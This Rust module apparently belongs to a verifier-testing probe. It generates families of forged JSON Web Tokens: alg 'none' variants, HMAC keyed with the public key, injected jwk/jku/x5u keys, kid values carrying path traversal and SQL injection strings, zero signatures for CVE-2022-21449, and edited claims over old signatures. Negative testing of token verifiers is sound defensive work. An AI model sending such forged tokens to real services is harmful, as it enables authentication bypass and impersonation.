//! The families of bent tokens: each function takes a genuine token and gives every way to bend it that is known.
//!
//! None of them may be accepted, by anyone, for anything.

use serde_json::{Value, json};

use super::{Decoded, Draft, ForgeError, PublicKey, SigningKey, encode};

/// A bent token and how it was bent, in words for a report.
#[derive(Debug, Clone)]
pub struct Bent {
    /// For instance `alg is noNe`.
    pub name: String,
    /// The token as it is sent.
    pub token: String,
}

impl Bent {
    /// Names a token.
    pub fn new(name: impl Into<String>, token: impl Into<String>) -> Self {
        Bent { name: name.into(), token: token.into() }
    }
}

/// No signature, or another algorithm: `none` in five spellings, no signature, HMAC keyed with each form of each key of
/// `jwks` that could have signed, and the other algorithms of the same family over the old signature.
pub fn algorithm_substitution(genuine: &Decoded, jwks: &Value) -> Vec<Bent> {
    let mut all: Vec<Bent> = ["none", "None", "NONE", "nOnE", "noNE"]
        .into_iter()
        .map(|alg| Bent::new(format!("alg is {alg}, no signature"), genuine.draft().with_header("alg", alg).unsigned()))
        .collect();
    let draft = || genuine.draft();
    all.extend([
        Bent::new("alg is empty, no signature", draft().with_header("alg", "").unsigned()),
        Bent::new("no alg, no signature", draft().without_header("alg").unsigned()),
        Bent::new("the signature cut off", genuine.with_signature(&[])),
        Bent::new("the signature and its dot cut off", genuine.signing_input.clone()),
        Bent::new(
            "alg is none, the old signature kept",
            draft().with_header("alg", "none").with_signature(&genuine.signature),
        ),
    ]);
    let kid = &genuine.header["kid"];
    let keys = jwks["keys"].as_array().into_iter().flatten();
    for jwk in keys.filter(|jwk| kid.is_null() || jwk["kid"] == *kid) {
        let Some(key) = PublicKey::from_jwk(jwk) else { continue };
        let mut spellings = key.spellings();
        spellings.push(("JWK as published", jwk.to_string().into_bytes()));
        for (form, secret) in spellings {
            all.push(Bent::new(format!("HS256 keyed with the public key as {form}"), draft().mac("HS256", &secret)));
        }
    }
    all.push(Bent::new("HS256 with an empty secret", draft().mac("HS256", b"")));
    let old = genuine.header["alg"].as_str().unwrap_or_default();
    for alg in ["ES256", "ES384", "ES512", "ES256K", "EdDSA", "RS256", "RS384", "RS512", "PS256"] {
        if alg != old {
            let token = draft().with_header("alg", alg).with_signature(&genuine.signature);
            all.push(Bent::new(format!("alg changed from {old} to {alg} over the old signature"), token));
        }
    }
    all
}

/// The token brings its own key, or a `kid` that reaches for one: all are signed by `foreign`, a key of the attacker,
/// unless the name says otherwise. `url` is an address under the attacker's eyes, where the key set lies.
pub fn key_injection(genuine: &Decoded, foreign: &SigningKey, url: &str) -> Result<Vec<Bent>, ForgeError> {
    let alg = foreign.algorithm();
    let draft = || genuine.draft().with_header("alg", alg);
    let own = draft().with_header("kid", foreign.kid());
    let mut drafts = vec![
        ("signed by a foreign key under the genuine kid".to_owned(), draft()),
        ("signed by a foreign key under its own kid".to_owned(), own.clone()),
        ("the foreign key in jwk".to_owned(), own.clone().with_header("jwk", foreign.public_jwk())),
        (
            "the foreign key in jwk, without kid".to_owned(),
            draft().without_header("kid").with_header("jwk", foreign.public().jwk()),
        ),
        ("the foreign key in jwk under the genuine kid".to_owned(), draft().with_header("jwk", foreign.public_jwk())),
        ("jku names the foreign key's set".to_owned(), own.clone().with_header("jku", url)),
        ("x5u names a foreign chain".to_owned(), own.clone().with_header("x5u", url)),
        (
            "x5c holds what is no chain of the server's".to_owned(),
            own.with_header("x5c", json!([data_encoding::BASE64.encode(&foreign.public().spki_der())])),
        ),
    ];
    let long = "k".repeat(5000);
    for kid in ["../../../../dev/null", "' OR '1'='1", "x' UNION SELECT 'secret' -- ", "%00", url, &long] {
        let shown: String = kid.chars().take(24).collect();
        drafts.push((format!("signed by a foreign key, kid is {shown}"), draft().with_header("kid", kid)));
    }
    let mut all = Vec::new();
    for (name, draft) in drafts {
        all.push(Bent::new(name, draft.sign_as(foreign, alg)?));
    }
    // A kid that is read as a path to an empty file, or selects text of the attacker's choice, gives a known secret.
    let secret_kid = |kid: &str, secret: &[u8]| genuine.draft().with_header("kid", kid).mac("HS256", secret);
    all.push(Bent::new(
        "HS256 with the empty content of the file that kid names",
        secret_kid("../../../../../../dev/null", b""),
    ));
    all.push(Bent::new("HS256 with the text that kid selects", secret_kid("x' UNION SELECT 'secret' -- ", b"secret")));
    Ok(all)
}

/// Critical header members that nobody understands (RFC 7515 section 4.1.11), genuinely signed by `key`: for the kinds
/// of token that the probe itself may make.
pub fn critical(draft: &Draft, key: &SigningKey) -> Result<Vec<Bent>, ForgeError> {
    let unknown =
        draft.clone().with_header("crit", json!(["urn:example:unknown"])).with_header("urn:example:unknown", true);
    let bare = draft.clone().with_header("crit", json!(["exp"]));
    Ok(vec![
        Bent::new("crit names an unknown member", unknown.sign(key)?),
        Bent::new("crit names a member that is not there", bare.sign(key)?),
        Bent::new("crit is empty", draft.clone().with_header("crit", json!([])).sign(key)?),
    ])
}

/// Degenerate signatures under the genuine header: zero (CVE-2022-21449), cut, lengthened, of one byte, flipped.
pub fn weak_signature(genuine: &Decoded) -> Vec<Bent> {
    let old = &genuine.signature;
    let half = old.len() / 2;
    let zero = |length: usize| vec![0; length];
    let mut flipped = old.clone();
    if let Some(byte) = flipped.get_mut(half) {
        *byte ^= 1;
    }
    let mut zero_s = old.clone();
    zero_s.get_mut(half..).unwrap_or_default().fill(0);
    let mut all = vec![
        Bent::new("a signature of zeros", genuine.with_signature(&zero(old.len()))),
        Bent::new("a signature of 64 zeros", genuine.with_signature(&zero(64))),
        Bent::new("the first half of the signature", genuine.with_signature(&old[..half])),
        Bent::new(
            "all but the last byte of the signature",
            genuine.with_signature(&old[..old.len().saturating_sub(1)]),
        ),
        Bent::new("a signature of one byte", genuine.with_signature(&[0])),
        Bent::new("the second half of the signature is zero", genuine.with_signature(&zero_s)),
        Bent::new("one bit of the signature flipped", genuine.with_signature(&flipped)),
        Bent::new("the signature with a byte after it", genuine.with_signature(&[old.as_slice(), &[0]].concat())),
        Bent::new("zero r and s in DER", genuine.with_signature(&[0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00])),
    ];
    if genuine.header["alg"] == "ES256" {
        all.push(Bent::new(
            "r and s equal to the order of the group",
            genuine.with_signature(&[ORDER_P256, ORDER_P256].concat()),
        ));
        let one = [&[0; 31][..], &[1]].concat();
        all.push(Bent::new("r of one, s of zero", genuine.with_signature(&[one, zero(32)].concat())));
    }
    all
}

/// The order of the P-256 group (SEC 2 section 2.4.2): zero once more, to a verifier that forgot the range check.
const ORDER_P256: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7,
    0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// Changed content over the old signature: each claim that gives power, and one byte of the payload.
pub fn edited(genuine: &Decoded) -> Vec<Bent> {
    let with = |name: &str, value: Value| genuine.draft().with_claim(name, value).with_signature(&genuine.signature);
    let later = genuine.claims["exp"].as_i64().unwrap_or_default().saturating_add(86_400);
    let mut edited = vec![
        Bent::new("sub replaced", with("sub", json!("someone-else"))),
        Bent::new("exp moved by a day", with("exp", json!(later))),
        Bent::new("a scope added", with("scope", json!("openid admin"))),
    ];
    if let Some((header, payload)) = genuine.signing_input.split_once('.') {
        let mut bytes = data_encoding::BASE64URL_NOPAD.decode(payload.as_bytes()).unwrap_or_default();
        // The last brace becomes a space and a brace: the same claims, another text.
        if bytes.pop() == Some(b'}') {
            bytes.extend_from_slice(b" }");
            let token = format!("{header}.{}.{}", encode(&bytes), encode(&genuine.signature));
            edited.push(Bent::new("a space added to the payload", token));
        }
    }
    edited
}

/// Other spellings of a token that is itself good: JSON serialisation, a fourth part, trailing data.
/// A verifier that takes them reads more than one language, and two readers may then differ.
pub fn other_shapes(token: &str) -> Vec<Bent> {
    let mut all = vec![
        Bent::new("a fourth part", format!("{token}.e30")),
        Bent::new("a dot at the end", format!("{token}.")),
        Bent::new("a dot at the start", format!(".{token}")),
        Bent::new("text after the signature", format!("{token}!")),
    ];
    if let Some((flattened, general)) = Draft::json_forms(token) {
        all.push(Bent::new("flattened JSON serialisation", flattened));
        all.push(Bent::new("general JSON serialisation", general));
    }
    all
}

/// The names `iss`, `sub`, `aud`, `exp` and `alg` twice, genuinely signed by `key`: the first value is right, the second is
/// not. A reader may refuse them or take the last (RFC 7519 section 4); whoever takes the first accepts them.
pub fn duplicate_names(draft: &Draft, key: &SigningKey) -> Result<Vec<Bent>, ForgeError> {
    let fitted = draft.clone().with_header("alg", key.algorithm()).with_header("kid", key.kid());
    let mut all = Vec::new();
    let past = 1_000_000_000; // 2001
    let wrong = [
        ("iss", json!("someone-else")),
        ("sub", json!("someone-else")),
        ("aud", json!("https://as.attacker.example")),
        ("exp", json!(past)),
    ];
    for (name, second) in wrong {
        let token = fitted.clone().with_claim_twice(name, second).sign_as(key, key.algorithm())?;
        all.push(Bent::new(format!("{name} twice, the second time wrong"), token));
    }
    let token = fitted.clone().with_header_twice("alg", "none").sign_as(key, key.algorithm())?;
    all.push(Bent::new("alg twice in the header, the second time none", token));
    Ok(all)
}

/// Claims of a JWT that the probe itself signs (a client assertion), each wrong in one way, genuinely signed.
pub fn wrong_claims(draft: &Draft, key: &SigningKey, now: i64) -> Result<Vec<Bent>, ForgeError> {
    let audience = draft.claims()["aud"].as_str().unwrap_or_default().to_owned();
    let with = |name: &str, value: Value| draft.clone().with_claim(name, value);
    let shorter = audience.get(..audience.len().saturating_sub(1)).unwrap_or_default();
    let drafts = [
        ("no iss", draft.clone().without_claim("iss")),
        ("no sub", draft.clone().without_claim("sub")),
        ("no aud", draft.clone().without_claim("aud")),
        ("no exp", draft.clone().without_claim("exp")),
        ("another client in iss", with("iss", json!("someone-else"))),
        ("another client in sub", with("sub", json!("someone-else"))),
        ("another server in aud", with("aud", json!("https://as.attacker.example"))),
        ("a prefix of the audience", with("aud", json!(shorter))),
        ("the audience with more text", with("aud", json!(format!("{audience}.attacker.example")))),
        ("the audience in capitals", with("aud", json!(audience.to_uppercase()))),
        ("an empty list of audiences", with("aud", json!([]))),
        ("expired an hour ago", with("exp", json!(now - 3600)).with_claim("iat", now - 3660)),
        ("nbf in an hour", with("nbf", json!(now + 3600)).with_claim("exp", now + 3660)),
        ("exp as text", with("exp", json!((now + 60).to_string()))),
        ("iss as a list", with("iss", json!([draft.claims()["iss"]]))),
    ];
    drafts.into_iter().map(|(name, draft)| Ok(Bent::new(name, draft.sign(key)?))).collect()
}
